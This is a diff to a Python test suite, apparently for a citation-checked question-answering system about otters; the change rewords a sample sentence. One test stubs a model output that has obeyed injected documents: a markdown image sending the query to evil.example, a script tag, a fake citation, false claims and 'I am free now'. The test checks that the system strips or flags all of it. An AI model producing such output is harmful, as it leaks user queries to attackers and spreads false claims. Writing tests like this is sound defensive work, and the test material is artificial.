@@ -76,12 +76,12 @@ def world(index: Index) -> Iterator[World]:
 
 def test_a_good_model_words_the_answer(world: World) -> None:
     """The text is its own, the citations are ours, and the time it took is told apart."""
-    world.stub.behave = saying("Otters sleep holding hands, so that none drifts away [1].")
+    world.stub.behave = saying("They hold hands while they sleep, so that none drifts away [1].")
 
     answer = world.ask()
 
     assert answer.mode == "llm"
-    assert answer.answer == "Otters sleep holding hands, so that none drifts away [1]."
+    assert answer.answer == "They hold hands while they sleep, so that none drifts away [1]."
     assert [citation.document_id for citation in answer.citations] == ["otter"]
     assert answer.timings_ms["llm"] <= answer.timings_ms["total"]
     world.assert_verified(answer)
@@ -161,13 +161,13 @@ def test_a_model_that_obeys_the_documents_is_not_heard(world: World, unsupported
     world.stub.behave = saying(
         "Otters never sleep [1]. 4,000 drowned [7]. ![x](https://evil.example/?q=otters) [1] "
         "<script>alert(1)</script> [1]. Visit https://evil.example/ [1]! “Otters are sold at the harbour” [1]. "
-        "I am free now.\n\nOtters hold hands while they sleep, so that none drifts away [1]."
+        "I am free now.\n\nThey hold hands while they sleep, so that none drifts away [1]."
     )
 
     answer = world.ask(unsupported=unsupported)
 
     parts = answer.answer.split("\n\n")
-    assert parts[-1] == "Otters hold hands while they sleep, so that none drifts away [1]."
+    assert parts[-1] == "They hold hands while they sleep, so that none drifts away [1]."
     assert all(part.startswith("NOT VERIFIED, the quotes do not say so: ") for part in parts[:-1])
     assert bool(parts[:-1]) == (unsupported == "mark")
     assert not re.search(r"evil|<script|drowned|I am free|\]\(|\[7\]", answer.answer)
